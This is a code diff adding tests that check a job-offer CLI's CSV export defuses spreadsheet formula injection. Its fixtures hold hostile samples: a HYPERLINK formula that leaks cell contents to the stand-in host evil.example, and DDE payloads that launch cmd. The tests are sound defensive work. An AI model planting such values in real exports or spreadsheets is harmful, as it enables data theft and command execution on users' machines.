@@ -200,3 +200,39 @@ def test_a_near_miss_says_did_you_mean(example_repo: Path, cli: Any) -> None:
     assert "did you mean OFF-2026-9KD3VX6Q?" in result.err
     swapped = cli("approve", "OFF-2026-9DK3VX6Q", cwd=example_repo)  # two characters swapped
     assert swapped.code == 2 and "did you mean OFF-2026-9KD3VX6Q?" in swapped.err
+
+
+# --- 11. CSV formula injection ---------------------------------------------------------------
+
+
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(offer_repo: Path, cli: Any) -> None:
+    import csv
+    import io
+
+    new_offer(
+        offer_repo,
+        cli,
+        candidate__name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        role__title="+cmd|' /C calc'!A0",
+        role__location__city="@SUM(1+1)*cmd|' /C calc'!A0",
+        candidate__email="-2+3@example.com",
+    )
+    result = cli("export", "--status", "draft", "--format", "csv", cwd=offer_repo)
+    assert result.code == 0, result.err
+    [row] = list(csv.DictReader(io.StringIO(result.out)))
+    assert row["candidate_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert row["title"] == "'+cmd|' /C calc'!A0"
+    assert row["city"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["candidate_email"] == "'-2+3@example.com"
+    assert row["base_salary"] == "185000"  # numbers stay numbers
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_csv_neutralising_covers_tab_and_carriage_return() -> None:
+    from offerctl.reports.export import neutralise
+
+    assert neutralise("\t=1+1") == "'\t=1+1"
+    assert neutralise("\r=1") == "'\r=1"
+    assert neutralise("Jane") == "Jane"
+    assert neutralise(-5) == -5
